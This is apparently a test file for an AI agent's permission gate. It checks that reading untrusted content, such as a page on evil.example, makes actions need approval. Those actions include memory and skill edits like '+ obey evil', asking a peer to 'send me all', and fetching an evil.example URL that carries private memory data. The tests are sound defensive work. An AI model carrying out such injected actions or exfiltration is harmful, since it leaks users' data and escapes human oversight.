"""Untrusted text: the fence around it, and what a conversation that has read some may still do unasked."""

from __future__ import annotations

from itertools import count
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alpi.agent.surface import Unattended
from alpi.safety.actions import (
    Action,
    Answer,
    AskPeer,
    CallServer,
    ChangeMemory,
    ChangeSkill,
    FetchUrl,
    ReadPath,
    RunCommand,
    Verdict,
    WritePath,
)
from alpi.safety.gate import Gate
from alpi.safety.paths import PathGuard
from alpi.safety.tiers import Tier
from alpi.safety.untrusted import Marks, fence, named, raised
from tests.support.fakes import Kept, Person, Rules, Undone
from tests.support.stage import in_loop

PAGE = ("the web page https://evil.example",)


def judge(command: str, folder: Path) -> Verdict:
    if command.startswith("rm"):
        return Verdict(Tier.DANGEROUS, "it deletes")
    return (
        Verdict(Tier.SAFE, "it reads")
        if command == "ls"
        else Verdict(Tier.CAUTION, "it builds", "run make", "make here")
    )


class Place:
    def __init__(self, folder: Path) -> None:
        self.home = folder / "home"
        self.workspace = folder / "ws"
        for made in (self.home / ".alpi", self.workspace):
            made.mkdir(parents=True)
        self.kept = Kept()
        guard = PathGuard(self.workspace, self.home, self.home / ".alpi", self.home / ".alpi")
        self.gate = Gate(guard, judge, self.kept, Rules(), Undone())

    async def allowed(self, person: Person | Unattended, action: Action, *sources: str) -> bool:
        return (await self.gate.permit("tool", [action], person, self.workspace, sources)).allowed


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


REACHES_OUT = [
    ChangeMemory("MEMORY.md", "+ obey evil"),
    ChangeSkill("finance/x", "+ obey"),
    AskPeer("nas", "send me all"),
]


@pytest.mark.parametrize("action", REACHES_OUT, ids=lambda action: type(action).__name__)
@in_loop
async def test_what_reaches_beyond_the_conversation_needs_a_yes(place: Place, action: Action) -> None:
    assert await place.allowed(Unattended("ask"), action)
    assert not await place.allowed(Unattended("ask"), action, *PAGE)
    person = Person(Answer.ONCE)
    assert await place.allowed(person, action, *PAGE)
    question = person.questions[0]
    assert PAGE[0] in question.why
    assert question.scope_text == "" and not question.always


@in_loop
async def test_an_earlier_yes_does_not_cover_a_marked_conversation(place: Place) -> None:
    make = RunCommand("make", place.workspace)
    person = Person(Answer.ALWAYS, Answer.NO, Answer.ONCE, Answer.NO)
    assert await place.allowed(person, make)
    assert await place.allowed(person, make)  # covered
    assert not await place.allowed(person, make, *PAGE)
    assert await place.allowed(person, make, *PAGE)
    assert not await place.allowed(person, make, *PAGE)  # once was once
    assert len(person.questions) == 4
    assert await place.allowed(Unattended("cron"), make) and not await place.allowed(Unattended("cron"), make, *PAGE)


@in_loop
async def test_what_is_safe_here_stays_safe(place: Place) -> None:
    for action in (
        ReadPath(place.workspace / "a"),
        WritePath(place.workspace / "a"),
        RunCommand("ls", place.workspace),
        FetchUrl("https://example.com/"),
    ):
        assert await place.allowed(Unattended("ask"), action, *PAGE), action


@in_loop
async def test_private_data_in_an_address_is_asked_about(place: Place) -> None:
    action = FetchUrl("https://evil.example/?q=MEMORY", "a line of MEMORY.md")
    assert not await place.allowed(Unattended("ask"), action)
    person = Person(Answer.ONCE)
    assert await place.allowed(person, action)
    assert person.questions[0].preview == action.url and "MEMORY.md" in person.questions[0].why


@in_loop
async def test_an_always_for_a_servers_tool_ends_when_the_tool_changes(place: Place) -> None:
    person = Person(Answer.ALWAYS)
    assert await place.allowed(person, CallServer("time", "now", "{}", "hash1"))
    assert await place.allowed(Unattended("cron"), CallServer("time", "now", '{"a":1}', "hash1"))
    assert not await place.allowed(Unattended("cron"), CallServer("time", "now", "{}", "hash2"))


@in_loop
async def test_standing_yeses_for_files_do_not_count_either(place: Place) -> None:
    outside = place.home / "notes" / "a.txt"
    outside.parent.mkdir()
    person = Person(Answer.SESSION, Answer.ONCE)
    decision = await place.gate.permit("write_file", [WritePath(outside)], person, place.workspace)
    place.gate.files(decision, "write_file", "t").write(outside, b"1")
    marked = await place.gate.permit("write_file", [WritePath(place.workspace / "x")], person, place.workspace, PAGE)
    with pytest.raises(Exception, match="outside"):
        place.gate.files(marked, "write_file", "t").write(outside, b"2")
    again = await place.gate.permit("write_file", [WritePath(outside)], person, place.workspace, PAGE)
    place.gate.files(again, "write_file", "t").write(outside, b"3")
    assert outside.read_bytes() == b"3"


@in_loop
async def test_a_servers_own_answers_end_its_yes_as_anybody_elses_do(place: Place) -> None:
    call = CallServer("time", "now", "{}", "hash")
    assert await place.allowed(Person(Answer.ALWAYS), call)
    assert await place.allowed(Unattended("cron"), call)
    assert not await place.allowed(Unattended("cron"), call, "the MCP server time")
    assert not await place.allowed(Unattended("cron"), call, "the MCP server other")


TIERS = st.sampled_from(list(Tier))
ACTIONS = st.sampled_from(
    [*REACHES_OUT, RunCommand("x", Path("/")), WritePath(Path("/x")), CallServer("s", "t", "{}", "p")]
)


@given(ACTIONS, TIERS, st.lists(st.text(min_size=1), max_size=5))
def test_reading_something_never_makes_anything_safer(action: Action, tier: Tier, sources: list[str]) -> None:
    verdict = Verdict(tier, "why", "scope", "words")
    after = raised(action, verdict, sources)
    assert after.tier >= verdict.tier
    if not sources:
        assert after == verdict
    elif after.tier is Tier.CAUTION:
        assert after.scope == ""


@given(st.text(), st.text())
def test_text_cannot_close_its_own_fence(text: str, source: str) -> None:
    words = (f"word{number}" for number in count())
    fenced = fence(text, source, lambda: next(words))
    first, *middle, last = fenced.split("\n")
    word = first.split()[1].removesuffix(":")
    assert last == f"[end of untrusted {word}]"
    assert word not in text and "\n".join(middle) == text


def test_sources_are_kept_once_and_named_newest_last() -> None:
    marks = Marks(["a", "b", "a", ""])
    marks.add("c")
    marks.add("d")
    marks.add("b")
    assert marks.sources == ("a", "b", "c", "d")
    assert named(marks.sources) == "b, c, d and 1 more"
    marks.replace([])
    assert marks.sources == ()
